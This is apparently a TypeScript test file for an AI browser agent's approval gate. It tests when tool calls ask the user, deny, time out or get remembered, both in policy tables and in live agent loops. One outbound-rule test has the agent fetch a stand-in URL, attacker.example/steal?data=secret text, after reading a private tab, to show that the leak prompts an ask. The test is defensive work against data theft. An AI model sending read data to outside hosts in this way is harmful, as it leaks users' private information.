// The approval gate: the policy's decisions as a table of annotations × situation, the gate's asks
// (deny, timeout, stop, Always allow, revoke), the outbound rule after private reads, and the gate
// in a real agent loop (main agent and sub-agent loops alike) against the scripted model server.
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { runAgentLoop, AgentRunner } from '@/core/agent/loop';
import { createOpenAICompatibleClient } from '@/core/agent/provider';
import { ApprovalGate, APPROVAL_TIMEOUT_MS, type Permission, type PermissionStore } from '@/core/approvals/gate';
import { decide, originsInText, readsPrivateData, type CallSituation, type Decision } from '@/core/approvals/policy';
import { defineTool, ToolRegistry } from '@/core/registry/registry';
import { interpretedValidators } from '@/core/registry/interpreted-validator';
import type { GatedCall, ToolAnnotations, ToolSpec } from '@/core/registry/types';
import { ConversationStore } from '@/core/storage/conversations';
import { openDb, type ToolMessage } from '@/core/storage/db';
import { permissionStore } from '@/core/storage/permissions';
import { contentText, startModelServer } from '../model-server/server.mjs';

const READ: ToolAnnotations = { readOnly: true, destructive: false, openWorld: false };
const READ_TAB: ToolAnnotations = { ...READ, pages: true, target: (i: { tab_id: number }) => ({ tabId: i.tab_id }) };
const FETCH: ToolAnnotations = { readOnly: true, destructive: false, openWorld: true, target: (i: { url: string }) => ({ url: i.url }) };
const SCRIPT: ToolAnnotations = {
  readOnly: false, destructive: true, openWorld: true, pages: true,
  target: (i: { tab_id?: number; sandbox?: boolean }, c) => (i.sandbox ? undefined : { tabId: i.tab_id ?? c.tabId }),
};
const NAVIGATE: ToolAnnotations = { readOnly: false, destructive: false, openWorld: true, pages: true, target: (i: { url: string; tab_id?: number }) => ({ url: i.url, tabId: i.tab_id }) };
const OWN_LIST: ToolAnnotations = { readOnly: false, destructive: false, openWorld: false };
const DELETE_FILE: ToolAnnotations = { readOnly: false, destructive: true, openWorld: false };
const PAGE_TOOL = (claims?: ToolAnnotations['claims']): ToolAnnotations => ({
  readOnly: false, destructive: true, openWorld: true, pages: true, target: () => ({ tabId: 7, url: 'https://shop.example/cart' }), claims,
});

const base: Omit<CallSituation, 'annotations'> = {
  hasTarget: true, onActiveTab: false, allowedInConversation: false, trusted: false, outbound: false,
};
const allow: Decision = { action: 'allow' };
const askRead: Decision = { action: 'ask', reason: 'read', scope: 'site' };

describe('approval policy (annotations × situation → decision)', () => {
  const rows: Array<[string, ToolAnnotations, Partial<CallSituation>, Decision]> = [
    ['read-only tool, no tab (files, lists)', READ, { hasTarget: false }, allow],
    ['reading the tab the user looks at', READ_TAB, { onActiveTab: true }, allow],
    ['reading another tab', READ_TAB, {}, askRead],
    ['reading another tab, allowed once earlier in the conversation', READ_TAB, { allowedInConversation: true }, allow],
    ['reading another tab, Always allow remembered', READ_TAB, { remembered: 'allow' }, allow],
    ['fetching an address (read-only, open world)', FETCH, {}, allow],
    ['script in a page (destructive, target)', SCRIPT, { onActiveTab: true }, { action: 'ask', reason: 'destructive', scope: 'call' }],
    ['script in a page, Always allow remembered', SCRIPT, { remembered: 'allow' }, allow],
    ['navigating a tab (acting, target)', NAVIGATE, { onActiveTab: true }, { action: 'ask', reason: 'acting', scope: 'call' }],
    ['acting with a target, allowed once earlier: still asks', NAVIGATE, { allowedInConversation: true }, { action: 'ask', reason: 'acting', scope: 'call' }],
    ['the agent\'s own list (acting, no target, not destructive)', OWN_LIST, { hasTarget: false }, allow],
    ['deleting a file (destructive, no target)', DELETE_FILE, { hasTarget: false }, { action: 'ask', reason: 'destructive', scope: 'call' }],
    ['page tool without claims', PAGE_TOOL(), {}, { action: 'ask', reason: 'destructive', scope: 'call' }],
    ['page tool claiming read-only: once per site', PAGE_TOOL({ readOnlyHint: true }), { onActiveTab: true }, { action: 'ask', reason: 'claimed', scope: 'site' }],
    ['page tool claiming read-only, allowed once in the conversation', PAGE_TOOL({ readOnlyHint: true }), { allowedInConversation: true }, allow],
    ['page tool claiming read-only and destructive: no lowering', PAGE_TOOL({ readOnlyHint: true, destructiveHint: true }), {}, { action: 'ask', reason: 'destructive', scope: 'call' }],
    ['outbound after private reads asks even when remembered', FETCH, { outbound: true, remembered: 'allow' }, { action: 'ask', reason: 'outbound', scope: 'call' }],
    ['remembered deny', READ, { remembered: 'deny', hasTarget: false }, { action: 'deny' }],
    ['act without asking: destructive allowed', DELETE_FILE, { trusted: true, hasTarget: false }, allow],
    ['act without asking: outbound allowed', FETCH, { trusted: true, outbound: true }, allow],
    ['an address on the user\'s own network asks every time', FETCH, { local: true }, { action: 'ask', reason: 'local', scope: 'call' }],
    ['own network, Always allow remembered for that tool and site', FETCH, { local: true, remembered: 'allow' }, allow],
    ['own network, act without asking', FETCH, { local: true, trusted: true }, allow],
    ['own network after private reads: the outbound ask comes first', FETCH, { local: true, outbound: true }, { action: 'ask', reason: 'outbound', scope: 'call' }],
  ];
  it.each(rows)('%s', (_label, annotations, situation, expected) => {
    expect(decide({ ...base, ...situation, annotations })).toEqual(expected);
  });

  it('what counts as private data, and which addresses a text involves', () => {
    expect(readsPrivateData(READ_TAB, false)).toBe(true);
    expect(readsPrivateData(READ, false)).toBe(true); // files, lists: the browser's own state
    expect(readsPrivateData(FETCH, false)).toBe(false); // the open web
    expect(readsPrivateData({ ...FETCH, readOnly: true }, true)).toBe(true); // a page tool's answer
    expect(readsPrivateData(SCRIPT, false)).toBe(true); // a script's output in a page
    expect(originsInText('see https://a.example/x?y=1, and (http://b.example:8080/z) or ftp://c')).toEqual(['https://a.example', 'http://b.example:8080']);
  });
});

/** A permission store in memory, recording what was written. */
function memoryPermissions(initial: Permission[] = []): PermissionStore & { saved: Permission[] } {
  const saved = [...initial];
  return {
    saved,
    load: async () => [...saved],
    put: async (p) => void saved.push(p),
    remove: async (tool, site) => {
      const at = saved.findIndex((p) => p.tool === tool && p.site === site);
      if (at >= 0) saved.splice(at, 1);
    },
  };
}

const TABS: Record<number, string> = { 1: 'https://news.example/today', 2: 'https://bank.example/account' };

function makeGate(permissions = memoryPermissions()) {
  const gate = new ApprovalGate({
    permissions,
    activeTab: async () => ({ id: 1, url: TABS[1]! }),
    tabUrl: async (id) => TABS[id],
  });
  const asked: string[] = [];
  gate.onChange((c) => c.type === 'asked' && asked.push(c.approval.id));
  return { gate, permissions, asked };
}

const spec = (name: string, annotations: ToolAnnotations, source: 'builtin' | 'page' = 'builtin'): ToolSpec => ({
  name, description: '', inputSchema: {}, pluginId: 'p', source, annotations,
});
const call = (name: string, annotations: ToolAnnotations, input: unknown, extra: Partial<GatedCall> = {}): GatedCall => ({
  name, input, spec: spec(name, annotations), conversationId: 'c1', toolCallId: 't1', ...extra,
});

/** Waits until the gate shows an ask, and returns it. */
async function nextAsk(gate: ApprovalGate) {
  await vi.waitFor(() => expect(gate.list()).toHaveLength(1));
  return gate.list()[0]!;
}

afterEach(() => {
  vi.useRealTimers();
});

describe('approval gate', () => {
  it('allows what needs no ask at once, without asking', async () => {
    const { gate, asked } = makeGate();
    await expect(gate.check(call('read_tab', READ_TAB, { tab_id: 1 }))).resolves.toMatchObject({ ok: true, note: { site: 'https://news.example' } });
    await expect(gate.check(call('list_files', READ, {}))).resolves.toMatchObject({ ok: true });
    expect(asked).toEqual([]);
  });

  it('an address on the user\'s own network asks; Allow once hands that address to the tool, and only then', async () => {
    const { gate } = makeGate();
    const url = 'http://127.0.0.1:8080/admin';
    const pending = gate.check(call('fetch', FETCH, { url }));
    const ask = await nextAsk(gate);
    expect(ask).toMatchObject({ reason: 'local', url, site: 'http://127.0.0.1:8080' });
    gate.answer(ask.id, 'once');
    await expect(pending).resolves.toMatchObject({ ok: true, approvedUrl: url });
    // A public address needs no ask and carries no approval.
    const open = await gate.check(call('fetch', FETCH, { url: 'https://example.com/' }));
    expect(open).toMatchObject({ ok: true });
    expect('approvedUrl' in open && open.approvedUrl).toBeFalsy();
    // Denied: nothing is handed on.
    const denied = gate.check(call('fetch', FETCH, { url: 'http://router/' }));
    gate.answer((await nextAsk(gate)).id, 'deny');
    await expect(denied).resolves.toMatchObject({ ok: false, result: { code: 'denied' } });
  });

  it('Deny: the model reads that the user declined; the card had the site, the tool and the full arguments', async () => {
    const { gate } = makeGate();
    const code = 'document.querySelector("form").submit()';
    const pending = gate.check(call('run_script', SCRIPT, { tab_id: 2, code }, { agent: 'Checkout helper' }));
    const ask = await nextAsk(gate);
    expect(ask).toMatchObject({ tool: 'run_script', site: 'https://bank.example', reason: 'destructive', scope: 'call', agent: 'Checkout helper', conversationId: 'c1' });
    expect(JSON.parse(ask.arguments)).toEqual({ tab_id: 2, code });
    gate.answer(ask.id, 'deny');
    const verdict = await pending;
    expect(verdict).toMatchObject({ ok: false, result: { ok: false, code: 'denied' } });
    expect(!verdict.ok && !verdict.result.ok && verdict.result.error).toMatch(/user declined.*run_script was not run on https:\/\/bank\.example/);
    expect(gate.list()).toEqual([]);
    expect(() => gate.answer(ask.id, 'once')).toThrow(/no longer waiting/);
  });

  it('an ask left unanswered for 5 minutes is declined', async () => {
    vi.useFakeTimers();
    const { gate } = makeGate();
    await gate.load();
    const pending = gate.check(call('delete_file', DELETE_FILE, { path: 'a.txt' }));
    await vi.advanceTimersByTimeAsync(0);
    expect(gate.list()[0]!.expiresAt - gate.list()[0]!.askedAt).toBe(APPROVAL_TIMEOUT_MS);
    await vi.advanceTimersByTimeAsync(APPROVAL_TIMEOUT_MS - 1);
    expect(gate.list()).toHaveLength(1);
    await vi.advanceTimersByTimeAsync(1);
    const verdict = await pending;
    expect(verdict).toMatchObject({ ok: false, result: { code: 'denied' } });
    expect(!verdict.ok && !verdict.result.ok && verdict.result.error).toMatch(/within 5 minutes/);
    expect(gate.list()).toEqual([]);
  });

  it('stopping the run withdraws the ask', async () => {
    const { gate } = makeGate();
    const controller = new AbortController();
    const closed: string[] = [];
    gate.onChange((c) => c.type === 'closed' && closed.push(c.reason));
    const pending = gate.check(call('delete_file', DELETE_FILE, { path: 'a.txt' }), controller.signal);
    await nextAsk(gate);
    controller.abort();
    await expect(pending).resolves.toMatchObject({ ok: false, result: { code: 'aborted' } });
    expect(gate.list()).toEqual([]);
    expect(closed).toEqual(['withdrawn']);
    // Deleting the conversation withdraws its asks too.
    const other = gate.check(call('delete_file', DELETE_FILE, { path: 'b.txt' }));
    await nextAsk(gate);
    gate.forget('c1');
    await expect(other).resolves.toMatchObject({ ok: false, result: { code: 'aborted' } });
  });

  it('Always allow is remembered (in the store, no second ask), listed, and revoked', async () => {
    const { gate, permissions, asked } = makeGate();
    const first = gate.check(call('run_script', SCRIPT, { code: '1' }));
    const ask = await nextAsk(gate);
    expect(ask.site).toBe('https://news.example'); // no tab given: the tab the user looks at
    gate.answer(ask.id, 'always');
    await expect(first).resolves.toMatchObject({ ok: true });
    expect(permissions.saved).toMatchObject([{ tool: 'run_script', site: 'https://news.example', decision: 'allow' }]);
    await expect(gate.check(call('run_script', SCRIPT, { code: '2' }))).resolves.toMatchObject({ ok: true });
    expect(asked).toHaveLength(1);
    // Another site still asks.
    const elsewhere = gate.check(call('run_script', SCRIPT, { tab_id: 2, code: '3' }));
    gate.answer((await nextAsk(gate)).id, 'once');
    await elsewhere;
    expect(gate.permissions()).toMatchObject([{ tool: 'run_script', site: 'https://news.example' }]);
    await gate.revoke('run_script', 'https://news.example');
    expect(permissions.saved).toEqual([]);
    const again = gate.check(call('run_script', SCRIPT, { code: '4' }));
    gate.answer((await nextAsk(gate)).id, 'once');
    await again;
    expect(asked).toHaveLength(3);
    // A new gate (a restarted background) reads what was remembered.
    const restarted = makeGate(memoryPermissions([{ tool: 'run_script', site: 'https://bank.example', decision: 'allow', at: 1 }]));
    await expect(restarted.gate.check(call('run_script', SCRIPT, { tab_id: 2, code: '5' }))).resolves.toMatchObject({ ok: true });
  });

  it('reading another tab asks once per site: Allow once covers the rest of the conversation', async () => {
    const { gate, asked } = makeGate();
    const first = gate.check(call('read_tab', READ_TAB, { tab_id: 2 }));
    const ask = await nextAsk(gate);
    expect(ask).toMatchObject({ reason: 'read', scope: 'site', site: 'https://bank.example' });
    gate.answer(ask.id, 'once');
    await first;
    await expect(gate.check(call('read_tab', READ_TAB, { tab_id: 2 }))).resolves.toMatchObject({ ok: true });
    expect(asked).toHaveLength(1);
    // Another conversation asks again.
    const other = gate.check(call('read_tab', READ_TAB, { tab_id: 2 }, { conversationId: 'c2' }));
    gate.answer((await nextAsk(gate)).id, 'deny');
    await expect(other).resolves.toMatchObject({ ok: false });
  });

  it('outbound rule: after a private read, an address of a new site asks with the full URL; involved sites do not', async () => {
    const { gate, asked } = makeGate();
    gate.beginRun('c1', { trusted: false, userTexts: ['Summarise this and compare with https://docs.example/guide'], calls: [] });
    // Before anything private was read, fetching anywhere is allowed.
    await expect(gate.check(call('fetch', FETCH, { url: 'https://elsewhere.example/' }))).resolves.toMatchObject({ ok: true });
    const read = call('read_tab', READ_TAB, { tab_id: 1 });
    const pass = await gate.check(read);
    gate.record(read, pass.ok && pass.note, { ok: true, output: 'secret text' });
    // The user typed it, the tab read is on it, or it was fetched already: involved.
    await expect(gate.check(call('fetch', FETCH, { url: 'https://docs.example/other' }))).resolves.toMatchObject({ ok: true });
    await expect(gate.check(call('fetch', FETCH, { url: 'https://news.example/more' }))).resolves.toMatchObject({ ok: true });
    expect(asked).toEqual([]);
    const url = 'https://attacker.example/steal?data=secret%20text';
    const pending = gate.check(call('fetch', FETCH, { url }));
    const ask = await nextAsk(gate);
    expect(ask).toMatchObject({ reason: 'outbound', url, site: 'https://attacker.example' });
    gate.answer(ask.id, 'deny');
    await expect(pending).resolves.toMatchObject({ ok: false, result: { code: 'denied' } });
    // Allowed once, the site is then involved.
    const second = gate.check(call('fetch', FETCH, { url }));
    gate.answer((await nextAsk(gate)).id, 'once');
    await expect(second).resolves.toMatchObject({ ok: true });
    await expect(gate.check(call('fetch', FETCH, { url: 'https://attacker.example/again' }))).resolves.toMatchObject({ ok: true });
    expect(asked).toHaveLength(2);
  });

  it('a run seeded from history keeps its taint; a page tool\'s answer taints; act without asking skips every ask', async () => {
    const { gate, asked } = makeGate();
    gate.beginRun('c1', { trusted: false, userTexts: [], calls: [{ spec: spec('read_tab', READ_TAB), input: { tab_id: 2 }, fromPage: false, output: { url: TABS[2], text: 'balance' } }] });
    const pending = gate.check(call('fetch', FETCH, { url: 'https://new.example/' }));
    gate.answer((await nextAsk(gate)).id, 'deny');
    await pending;
    // Fetching the bank's own site: the tab read was on it.
    await expect(gate.check(call('fetch', FETCH, { url: 'https://bank.example/x' }))).resolves.toMatchObject({ ok: true });
    const pageCall = call('page_tool', PAGE_TOOL({ readOnlyHint: true }), {}, { conversationId: 'c3', spec: spec('page_tool', PAGE_TOOL({ readOnlyHint: true }), 'page') });
    gate.setTrusted('c3', true);
    const pass = await gate.check(pageCall);
    expect(pass.ok).toBe(true);
    gate.record(pageCall, pass.ok && pass.note, { ok: true, output: 1 });
    await expect(gate.check(call('delete_file', DELETE_FILE, {}, { conversationId: 'c3' }))).resolves.toMatchObject({ ok: true });
    await expect(gate.check(call('fetch', FETCH, { url: 'https://new.example/' }, { conversationId: 'c3' }))).resolves.toMatchObject({ ok: true });
    expect(asked).toHaveLength(1);
    gate.setTrusted('c3', false);
    const after = gate.check(call('fetch', FETCH, { url: 'https://new.example/' }, { conversationId: 'c3' }));
    const ask = await nextAsk(gate);
    expect(ask.reason).toBe('outbound');
    gate.answer(ask.id, 'once');
    await after;
  });

  it('remembered choices live in the core DB (v4 permissions store)', async () => {
    const db = openDb(`test-permissions-${Math.random()}`);
    const store = permissionStore(db);
    await store.put({ tool: 'run_script', site: 'https://a.example', decision: 'allow', at: 5 });
    await store.put({ tool: 'run_script', site: 'https://b.example', decision: 'allow', at: 6 });
    expect(await store.load()).toHaveLength(2);
    await store.remove('run_script', 'https://a.example');
    expect(await store.load()).toEqual([{ tool: 'run_script', site: 'https://b.example', decision: 'allow', at: 6 }]);
    db.close();
  });
});

type Server = Awaited<ReturnType<typeof startModelServer>>;
let server: Server;
beforeAll(async () => {
  server = await startModelServer();
});
afterAll(() => server.close());

describe('the gate in the agent loop', () => {
  function setup() {
    const registry = new ToolRegistry(interpretedValidators);
    const ran: string[] = [];
    registry.register({
      id: 'test', name: 'Test', description: '', source: 'builtin',
      tools: [
        defineTool<{ path: string }>({
          name: 'remove_file', description: 'Deletes a file.', annotations: DELETE_FILE,
          inputSchema: { type: 'object', properties: { path: { type: 'string' } }, required: ['path'], additionalProperties: false },
          execute: ({ path }) => (ran.push(path), { deleted: path }),
        }),
      ],
    });
    const { gate } = makeGate();
    registry.gate = gate;
    return { registry, gate, ran };
  }

  const client = () => createOpenAICompatibleClient({ baseUrl: server.url, model: 'scripted-model', apiKey: '' });

  it('Deny: the tool does not run, the model\'s next request has the declined result, and the run goes on', async () => {
    const { registry, gate, ran } = setup();
    const store = new ConversationStore(openDb(`test-gate-loop-${Math.random()}`));
    const runner = new AgentRunner({ store, registry, getClient: async () => client(), getMaxSteps: async () => 5, events: { conversation() {}, message() {}, delta() {} } });
    const conversation = await store.create();
    server.queue([{ toolCalls: [{ name: 'remove_file', arguments: { path: 'notes.txt' } }] }, { text: 'Understood, I left it.' }]);
    const before = server.requests.length;
    await runner.send(conversation.id, 'Delete notes.txt');
    const ask = await nextAsk(gate);
    expect(ask).toMatchObject({ tool: 'remove_file', conversationId: conversation.id, reason: 'destructive' });
    gate.answer(ask.id, 'deny');
    await runner.settled(conversation.id);
    expect(ran).toEqual([]);
    const followUp = server.requests[before + 1]!;
    const result = followUp.messages.find((m: { role: string }) => m.role === 'tool');
    expect(contentText(result)).toMatch(/declined/);
    const messages = await store.messages(conversation.id);
    expect((messages.find((m) => m.role === 'tool') as ToolMessage).result).toMatchObject({ ok: false, code: 'denied' });
    expect((await store.get(conversation.id))!.status).toBe('idle');
  });

  it('a sub-agent\'s loop passes the same gate, and its label is on the card; invalid calls are never asked about', async () => {
    const { registry, gate, ran } = setup();
    server.queue([
      { toolCalls: [{ name: 'remove_file', arguments: { nope: 1 } }, { name: 'remove_file', arguments: { path: 'a.txt' } }] },
      { text: 'Done.' },
    ]);
    const messages: unknown[] = [];
    const loop = runAgentLoop({
      client: client(),
      registry,
      transcript: {
        conversationId: 'sub-1',
        prepare: async (m) => ({ ...m, id: crypto.randomUUID(), seq: messages.length, createdAt: Date.now() }) as never,
        save: async () => undefined,
        announce: (m) => void messages.push(m),
        delta: () => undefined,
      },
      history: [],
      system: 'You are a sub-agent.',
      maxSteps: 3,
      signal: new AbortController().signal,
      toolContext: { conversationId: 'parent', agentLabel: 'Tidy files' },
    });
    const ask = await nextAsk(gate);
    expect(ask).toMatchObject({ agent: 'Tidy files', conversationId: 'parent', arguments: JSON.stringify({ path: 'a.txt' }, null, 2) });
    gate.answer(ask.id, 'once');
    await expect(loop).resolves.toMatchObject({ status: 'done' });
    expect(ran).toEqual(['a.txt']);
  });

  it('a call is judged by what it does (forCall): writing a new file runs at once, writing over one asks; a forCall that throws changes nothing', async () => {
    const registry = new ToolRegistry(interpretedValidators);
    const files = new Set(['kept.txt']);
    const written: string[] = [];
    registry.register(
      {
        id: 'files', name: 'Files', description: '', source: 'builtin',
        tools: [
          defineTool<{ path: string }, unknown, { exists(path: string): boolean }>({
            name: 'write_file', description: 'Writes a file.',
            annotations: { ...DELETE_FILE, forCall: ({ path }: { path: string }, { service }: { service: { exists(path: string): boolean } }) => {
              if (path === 'boom.txt') throw new Error('boom');
              return service.exists(path) ? undefined : { destructive: false };
            } },
            inputSchema: { type: 'object', properties: { path: { type: 'string' } }, required: ['path'], additionalProperties: false },
            execute: ({ path }) => (written.push(path), files.add(path), { path }),
          }),
        ],
      },
      { exists: (path: string) => files.has(path) },
    );
    expect(await registry.callAnnotations('write_file', { path: 'new.txt' })).toMatchObject({ destructive: false, readOnly: false });
    expect(await registry.callAnnotations('write_file', { path: 'kept.txt' })).toMatchObject({ destructive: true });
    expect(await registry.callAnnotations('write_file', { path: 'boom.txt' })).toMatchObject({ destructive: true });
    const { gate } = makeGate();
    registry.gate = gate;
    server.queue([
      { toolCalls: [{ name: 'write_file', arguments: { path: 'new.txt' } }, { name: 'write_file', arguments: { path: 'kept.txt' } }] },
      { text: 'Written.' },
    ]);
    const loop = runAgentLoop({
      client: client(),
      registry,
      transcript: {
        conversationId: 'files-1',
        prepare: async (m) => ({ ...m, id: crypto.randomUUID(), seq: 0, createdAt: Date.now() }) as never,
        save: async () => undefined,
        announce: () => undefined,
        delta: () => undefined,
      },
      history: [],
      system: 'Test.',
      maxSteps: 3,
      signal: new AbortController().signal,
      toolContext: { conversationId: 'files-1' },
    });
    const ask = await nextAsk(gate);
    // The new file was written without a word; only the overwrite is asked about.
    expect(written).toEqual(['new.txt']);
    expect(ask).toMatchObject({ tool: 'write_file', reason: 'destructive', arguments: JSON.stringify({ path: 'kept.txt' }, null, 2) });
    gate.answer(ask.id, 'deny');
    await expect(loop).resolves.toMatchObject({ status: 'done' });
    expect(written).toEqual(['new.txt']);
  });

  it('registry.invoke alone never asks (tests and benchmarks call it directly)', async () => {
    const { registry, gate, ran } = setup();
    await expect(registry.invoke('remove_file', { path: 'b.txt' })).resolves.toMatchObject({ ok: true });
    expect(ran).toEqual(['b.txt']);
    expect(gate.list()).toEqual([]);
  });
});
